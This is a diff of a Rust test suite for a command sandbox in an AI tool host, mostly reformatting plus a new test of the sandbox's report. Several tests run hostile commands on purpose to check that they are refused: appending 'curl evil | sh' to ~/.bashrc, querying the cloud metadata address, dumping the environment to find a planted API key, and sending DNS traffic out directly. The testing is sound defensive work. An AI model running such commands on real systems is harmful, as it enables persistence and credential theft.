@@ -94,7 +94,10 @@ impl Home {
         let sysroot = PathBuf::from(sysroot.trim());
         let toolchain = self.h().join(".rustup/toolchains/stable");
         for program in ["cargo", "rustc", "rustdoc"] {
-            install(&sysroot.join("bin").join(program), &toolchain.join("bin").join(program));
+            install(
+                &sysroot.join("bin").join(program),
+                &toolchain.join("bin").join(program),
+            );
             let link = self.h().join(".cargo/bin").join(program);
             std::fs::create_dir_all(link.parent().unwrap()).unwrap();
             std::os::unix::fs::symlink(toolchain.join("bin").join(program), link).unwrap();
@@ -170,7 +173,10 @@ impl Home {
     /// `shell` running `command` under `config`, confirmed.
     fn shell(&self, config: &str, command: &str) -> Called {
         let input = serde_json::json!({ "command": command }).to_string();
-        let out = self.toolhost(config, &["call", "shell", "--input", &input, "--yes", "--json"]);
+        let out = self.toolhost(
+            config,
+            &["call", "shell", "--input", &input, "--yes", "--json"],
+        );
         Called::from(out)
     }
 }
@@ -191,7 +197,6 @@ fn npm_cli() -> PathBuf {
 struct Called {
     ok: bool,
     text: String,
-    json: serde_json::Value,
     stderr: String,
 }
 
@@ -211,7 +216,6 @@ impl From<Output> for Called {
         Called {
             ok: out.status.success(),
             text,
-            json,
             stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
         }
     }
@@ -219,7 +223,11 @@ impl From<Output> for Called {
 
 impl std::fmt::Debug for Called {
     fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
-        write!(f, "ok {}\n{}\n[toolhost stderr]\n{}", self.ok, self.text, self.stderr)
+        write!(
+            f,
+            "ok {}\n{}\n[toolhost stderr]\n{}",
+            self.ok, self.text, self.stderr
+        )
     }
 }
 
@@ -253,7 +261,10 @@ fn cargo_builds_and_tests_a_crate_with_a_home_dir_toolchain() {
         &home.workspace().join("src/lib.rs"),
         "pub fn two() -> u32 { 2 }\n#[test]\nfn it_is_two() { assert_eq!(two(), 2); }\n",
     );
-    let c = home.shell(DEFAULTS, "cargo --version && cargo build --offline && cargo test --offline");
+    let c = home.shell(
+        DEFAULTS,
+        "cargo --version && cargo build --offline && cargo test --offline",
+    );
     assert_works(&c);
     assert!(c.text.contains("test it_is_two ... ok"), "{c:?}");
 }
@@ -286,7 +297,10 @@ fn pytest_runs_through_a_pyenv_style_shim() {
     );
     assert_works(&c);
     assert!(c.text.contains("1 passed"), "{c:?}");
-    assert!(c.text.contains(".pyenv/versions/3.11-dev") || c.text.contains("pytest"), "{c:?}");
+    assert!(
+        c.text.contains(".pyenv/versions/3.11-dev") || c.text.contains("pytest"),
+        "{c:?}"
+    );
 }
 
 #[test]
@@ -325,12 +339,28 @@ fn mcp_servers_started_by_npx_and_by_a_home_dir_python_load_and_answer() {
         package.display(),
         home.h().join("servers/where.py").display()
     );
-    let c = Called::from(home.toolhost(&config, &["call", "js__node_version", "--input", "{}", "--yes", "--json"]));
+    let c = Called::from(home.toolhost(
+        &config,
+        &[
+            "call",
+            "js__node_version",
+            "--input",
+            "{}",
+            "--yes",
+            "--json",
+        ],
+    ));
     assert_works(&c);
     assert!(c.text.starts_with("v22."), "{c:?}");
-    let c = Called::from(home.toolhost(&config, &["call", "py__where", "--input", "{}", "--yes", "--json"]));
+    let c = Called::from(home.toolhost(
+        &config,
+        &["call", "py__where", "--input", "{}", "--yes", "--json"],
+    ));
     assert_works(&c);
-    assert!(c.text.contains(".pyenv/versions/3.11-mcp") || c.text.contains("python-sdk"), "{c:?}");
+    assert!(
+        c.text.contains(".pyenv/versions/3.11-mcp") || c.text.contains("python-sdk"),
+        "{c:?}"
+    );
 }
 
 /// An HTTP server on the host's loopback; returns its port and how many requests reached
@@ -367,7 +397,9 @@ fn a_download_from_a_listed_name_goes_through_the_proxy() {
     let (port, hits) = web_server("the artifact");
     let c = home.shell(
         &allowing(port),
-        &format!("curl -fsS --max-time 10 -o artifact http://localhost:{port}/artifact && cat artifact"),
+        &format!(
+            "curl -fsS --max-time 10 -o artifact http://localhost:{port}/artifact && cat artifact"
+        ),
     );
     assert_works(&c);
     assert!(c.text.starts_with("the artifact"), "{c:?}");
@@ -399,7 +431,10 @@ fn toolhosts_own_environment_cannot_be_read() {
     let c = home.shell(DEFAULTS, attempt);
     assert_refused(&c);
     let control = home.shell(HOST, attempt);
-    assert!(control.text.contains("toolhost-env-secret-3c2e"), "{control:?}");
+    assert!(
+        control.text.contains("toolhost-env-secret-3c2e"),
+        "{control:?}"
+    );
 }
 
 #[test]
@@ -407,7 +442,10 @@ fn a_planted_api_key_is_not_in_a_commands_environment() {
     let home = Home::new();
     let c = home.shell(DEFAULTS, "env");
     assert_works(&c);
-    assert!(!c.text.contains(API_KEY) && !c.text.contains("ANTHROPIC_API_KEY"), "{c:?}");
+    assert!(
+        !c.text.contains(API_KEY) && !c.text.contains("ANTHROPIC_API_KEY"),
+        "{c:?}"
+    );
     assert!(c.text.contains("HOME="), "{c:?}");
     let control = home.shell("[sandbox.env]\ninherit = \"all\"\n", "env");
     assert!(control.text.contains(API_KEY), "{control:?}");
@@ -419,10 +457,17 @@ fn the_bashrc_cannot_be_written() {
     let c = home.shell(DEFAULTS, "echo 'curl evil | sh' >> ~/.bashrc");
     assert_refused(&c);
     assert!(c.text.contains("writable_roots"), "{c:?}");
-    assert_eq!(std::fs::read_to_string(home.h().join(".bashrc")).unwrap(), "# my bashrc\n");
+    assert_eq!(
+        std::fs::read_to_string(home.h().join(".bashrc")).unwrap(),
+        "# my bashrc\n"
+    );
     let control = home.shell(HOST, "echo 'curl evil | sh' >> ~/.bashrc");
     assert!(control.ok, "{control:?}");
-    assert!(std::fs::read_to_string(home.h().join(".bashrc")).unwrap().contains("evil"));
+    assert!(
+        std::fs::read_to_string(home.h().join(".bashrc"))
+            .unwrap()
+            .contains("evil")
+    );
 }
 
 #[test]
@@ -462,10 +507,19 @@ fn the_metadata_address_is_refused_unless_listed_by_address() {
     let attempt = "curl -fsS --max-time 5 http://169.254.169.254/latest/meta-data/";
     let c = home.shell("[sandbox.network]\nallow = [\"*.example.com\"]\n", attempt);
     assert_refused(&c);
-    assert!(c.text.contains("network: 169.254.169.254:80 refused"), "{c:?}");
+    assert!(
+        c.text.contains("network: 169.254.169.254:80 refused"),
+        "{c:?}"
+    );
     // Listed by address, the proxy lets it through (and finds nothing there here).
-    let control = home.shell("[sandbox.network]\nallow = [\"169.254.169.254\"]\n", attempt);
-    assert!(!control.text.contains("169.254.169.254:80 refused"), "{control:?}");
+    let control = home.shell(
+        "[sandbox.network]\nallow = [\"169.254.169.254\"]\n",
+        attempt,
+    );
+    assert!(
+        !control.text.contains("169.254.169.254:80 refused"),
+        "{control:?}"
+    );
 }
 
 #[test]
@@ -481,9 +535,51 @@ fn a_dns_query_sent_straight_to_a_resolver_does_not_leave() {
     );
     let _ = home.shell(&allowing(port), &attempt);
     let mut buf = [0u8; 64];
-    assert!(resolver.recv(&mut buf).is_err(), "a datagram left the sandbox");
+    assert!(
+        resolver.recv(&mut buf).is_err(),
+        "a datagram left the sandbox"
+    );
     let control = home.shell(HOST, &attempt);
     assert!(control.ok, "{control:?}");
     let n = resolver.recv(&mut buf).unwrap();
     assert_eq!(&buf[..n], b"query");
+}
+
+// --- What `toolhost sandbox` says --------------------------------------------------------
+
+#[test]
+fn the_report_shows_the_deny_list_caches_network_and_environment_by_name() {
+    let home = Home::new();
+    std::fs::create_dir_all(home.h().join(".npm")).unwrap();
+    let config = "[sandbox.network]\nenabled = false\nallow = [\"crates.io\"]\n\n[[mcp_servers]]\nid = \"gh\"\nprefix = \"gh\"\ncommand = \"true\"\nenv = { GITHUB_TOKEN = \"ghp-secret-value-91\" }\nstartup_timeout_secs = 1\n";
+    let out = home.toolhost(config, &["sandbox"]);
+    let report = String::from_utf8_lossy(&out.stdout);
+    let line = |key: &str| {
+        report
+            .lines()
+            .find(|l| l.trim_start().starts_with(key))
+            .unwrap_or_else(|| panic!("no {key} line in:\n{report}"))
+            .to_string()
+    };
+    let ssh = home.h().join(".ssh").display().to_string();
+    assert!(line("hidden").contains(&ssh), "{report}");
+    assert!(line("caches").contains(".npm"), "{report}");
+    assert!(line("network").contains("crates.io"), "{report}");
+    assert!(line("withheld").contains("ANTHROPIC_API_KEY"), "{report}");
+    assert!(line("environment").contains("PATH"), "{report}");
+    assert!(line("gh").contains("GITHUB_TOKEN"), "{report}");
+    for value in [API_KEY, "ghp-secret-value-91"] {
+        assert!(!report.contains(value), "a value was shown:\n{report}");
+    }
+    let out = home.toolhost(config, &["sandbox", "--json"]);
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert!(
+        v["commands"]["environment"]["withheld"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|n| n == "ANTHROPIC_API_KEY"),
+        "{v}"
+    );
+    assert_eq!(v["servers"][0]["env"][0], "GITHUB_TOKEN");
 }
